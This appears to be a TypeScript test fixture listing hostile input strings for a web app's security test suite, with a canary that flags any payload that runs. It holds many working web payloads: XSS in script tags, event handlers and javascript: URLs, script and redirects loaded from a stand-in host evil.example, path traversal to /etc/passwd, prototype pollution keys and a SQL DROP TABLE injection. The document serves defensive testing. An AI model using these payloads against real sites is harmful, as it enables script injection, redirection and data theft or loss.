// The hostile-input suite's strings (./hostile-input-*.spec.ts): what an attacker
// types into every field another user will see, puts in a URL the app will
// render, or crafts into a link (/login?from=...). Each family below says what
// it attacks. A payload that ever runs sets the canary (`CANARY`, a global the
// spec watches) or opens a dialog (alert/confirm/prompt), and either fails the
// suite; one that navigates takes the page off the app's origin, which fails it
// too.

/**
 * Cut to a field's limit without splitting a surrogate pair (what a form's
 * maxLength lets through): how the suites fit each string into each field.
 */
export function clip(text: string, max: number): string {
  if (text.length <= max) return text
  const cut = text.slice(0, max)
  return /[\uD800-\uDBFF]$/.test(cut) ? cut.slice(0, -1) : cut
}

/** The global a payload sets if it ever runs. */
export const CANARY_NAME = '__hostileCanary'
const RUN = `top.${CANARY_NAME}=1`

interface HostileFamily {
  name: string
  strings: readonly string[]
}

const HOSTILE_FAMILIES: readonly HostileFamily[] = [
  {
    // Script elements in text that some renderer might parse as HTML
    // (innerHTML, a prerendered page, an inlined JSON block that a `</script>` closes).
    name: 'script tags',
    strings: [
      `<script>${RUN}</script>`,
      `<SCRIPT>${RUN}</SCRIPT>`,
      `<ScRiPt >alert(1)</sCrIpT >`,
      `"><script>${RUN}</script>`,
      `'><script>${RUN}</script>`,
      `</script><script>${RUN}</script>`,
      `</textarea><script>${RUN}</script>`,
      `</title><script>${RUN}</script>`,
      `<script src="//evil.example/x.js"></script>`,
      `<script>/*</script><script>*/${RUN}</script>`,
      `<!--<script>--><script>${RUN}</script>`,
      `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    ],
  },
  {
    // Event-handler attributes: markup that runs without a script element,
    // and quotes that break out of an attribute a template might build.
    name: 'event handlers',
    strings: [
      `<img src=x onerror="${RUN}">`,
      `<img src="x" onerror=alert(1)>`,
      `<svg onload=${RUN}>`,
      `<body onload=${RUN}>`,
      `<details open ontoggle=${RUN}>`,
      `<input autofocus onfocus=${RUN}>`,
      `" onmouseover="${RUN}" x="`,
      `' autofocus onfocus='${RUN}' x='`,
      `<video><source onerror="${RUN}"></video>`,
      `<marquee onstart=${RUN}>x</marquee>`,
      `<div style="width:100%;height:100%" onpointerenter=${RUN}>`,
      `<a onclick=${RUN}>click me</a>`,
    ],
  },
  {
    // URL schemes that run script or show attacker-made content when rendered
    // as an href or src: every case, leading blanks, control characters the
    // URL parser strips, and HTML and percent encodings.
    name: 'script and data URLs',
    strings: [
      `javascript:${RUN}`,
      `JAVASCRIPT:${RUN}`,
      `JaVaScRiPt:alert(1)`,
      ` javascript:${RUN}`,
      `\tjavascript:${RUN}`,
      `java\tscript:${RUN}`,
      `java\nscript:${RUN}`,
      `java\u0000script:${RUN}`.replace('\u0000', '%00'),
      `&#106;avascript:${RUN}`,
      `&#x6A;avascript&colon;${RUN}`,
      `%6Aavascript:${RUN}`,
      `javascript://%0a${RUN}`,
      `javascript:/*--></title></style></textarea></script><svg/onload=${RUN}>`,
      `data:text/html,<script>${RUN}</script>`,
      `DATA:text/html;base64,PHNjcmlwdD50b3AuX19ob3N0aWxlQ2FuYXJ5PTE8L3NjcmlwdD4=`,
      `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
      ` Data:text/html,<h1>fake login</h1>`,
      `vbscript:msgbox(1)`,
      `VBScript:MsgBox("x")`,
      `vBsCrIpT:${RUN}`,
      `blob:https://evil.example/5f0f7e2a-1a2b-4c3d-9e8f-001122334455`,
      `file:///etc/passwd`,
    ],
  },
  {
    // Other hosts in disguise: protocol-relative and backslash forms that a
    // string check takes for a path but the URL parser sends elsewhere.
    name: 'other hosts in disguise',
    strings: [
      '//evil.example',
      '//evil.example/dashboard',
      '///evil.example',
      '/\\evil.example',
      '\\/evil.example',
      '\\\\evil.example',
      '/\t/evil.example',
      'https:evil.example',
      'http:\\\\evil.example',
      'https://evil.example',
      'http://127.0.0.1@evil.example',
      '/%2F%2Fevil.example',
      '/%5Cevil.example',
      '//evil.example/%2e%2e',
      '/login?from=//evil.example',
      '/dashboard#//evil.example',
    ],
  },
  {
    // Text that reads differently from what it is: direction overrides,
    // invisible characters, look-alikes and stacked combining marks.
    name: 'unicode tricks',
    strings: [
      'invoice\u202Etxt.exe',
      '\u202Ejavascript:alert(1)',
      '\u200B<script>\u200B' + RUN + '</script>',
      '\uFEFFjavascript:' + RUN,
      '＜script＞' + RUN + '＜/script＞',
      'ｊａｖａｓｃｒｉｐｔ:' + RUN,
      'Z\u0337\u0321a\u0337\u0321l\u0337\u0321g\u0337\u0321o\u0337\u0321',
      '\u2028line\u2029separators',
      'emoji 🧪💥 and 𝕦𝕟𝕚𝕔𝕠𝕕𝕖',
      'مرحبا <b>RTL</b> שלום',
    ],
  },
  {
    // Long values: at (not over) each field's limit, so they are stored, and
    // must not break a layout into an unusable page or a renderer into a hang.
    name: 'very long',
    strings: [
      'A'.repeat(150),
      '<'.repeat(150),
      `${'W'.repeat(1990)}<b>x</b>`,
      `${'<img src=x onerror=' + RUN + '>'.repeat(1)}${' lorem'.repeat(300)}`,
      '\u202E'.repeat(100) + 'end',
    ],
  },
  {
    // SVG, MathML and HTML that frames, embeds, refreshes or re-bases the page,
    // and markup shaped to mutate when a sanitizer parses it twice.
    name: 'SVG and HTML payloads',
    strings: [
      `<svg><script>${RUN}</script></svg>`,
      `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
      `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">click</text></a></svg>`,
      `<iframe src="javascript:${RUN}"></iframe>`,
      `<iframe srcdoc="<script>parent.${CANARY_NAME}=1</script>"></iframe>`,
      `<object data="javascript:${RUN}"></object>`,
      `<embed src="data:text/html,<script>${RUN}</script>">`,
      `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
      `<form action="javascript:${RUN}"><button>go</button></form>`,
      `<a href="javascript:${RUN}">a link</a>`,
      `<meta http-equiv="refresh" content="0;url=//evil.example">`,
      `<base href="//evil.example/">`,
      `<link rel="stylesheet" href="//evil.example/x.css">`,
      `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    ],
  },
  {
    // Template and string-building syntaxes: text that a template engine, a
    // template literal or code built from strings would evaluate.
    name: 'templates and string breaks',
    strings: [
      `\${${RUN}}`,
      '`${alert(1)}`',
      `{{constructor.constructor('${RUN}')()}}`,
      `{{7*7}}`,
      `#{${RUN}}`,
      `<%= ${RUN} %>`,
      `'; ${RUN}; //`,
      `"); ${RUN}; //`,
      `\\"; ${RUN}; //`,
    ],
  },
  {
    // Keys of Object.prototype: a lookup table keyed by user text (`map[text]`)
    // that could return a function or pollute every object.
    name: 'prototype keys',
    strings: [
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      '__proto__[polluted]=1',
      'constructor.prototype.polluted',
      '{"__proto__":{"polluted":true}}',
    ],
  },
  {
    // CSS that once ran script (IE expressions, bindings) or loads from
    // elsewhere, and text that closes a style element.
    name: 'CSS expressions',
    strings: [
      `expression(${RUN})`,
      `width: expression(alert(1));`,
      `</style><script>${RUN}</script>`,
      `background:url("javascript:${RUN}")`,
      `@import url(//evil.example/x.css);`,
      `-moz-binding:url(//evil.example/xss.xml#xss)`,
      `behavior:url(//evil.example/x.htc)`,
    ],
  },
  {
    // Ids and file names that climb out of a folder or a route.
    name: 'path traversal',
    strings: [
      '../../etc/passwd',
      '..%2F..%2Fetc%2Fpasswd',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '....//....//etc/passwd',
      '..\\..\\windows\\win.ini',
      '/etc/passwd%00.png',
      '..;/admin',
    ],
  },
  {
    // Query syntax: a search box or id that reaches SQL or a LIKE pattern.
    name: 'query syntax',
    strings: ["' OR '1'='1", "1'; DROP TABLE sessions; --", '%', '_', '%_%\\', '$where'],
  },
]

export const HOSTILE_STRINGS: readonly string[] = HOSTILE_FAMILIES.flatMap((family) => family.strings)

/** The strings a URL field or the return path might follow: every family that is about URLs. */
export const HOSTILE_URLS: readonly string[] = HOSTILE_FAMILIES.filter((family) =>
  ['script and data URLs', 'other hosts in disguise', 'path traversal'].includes(family.name),
).flatMap((family) => family.strings)
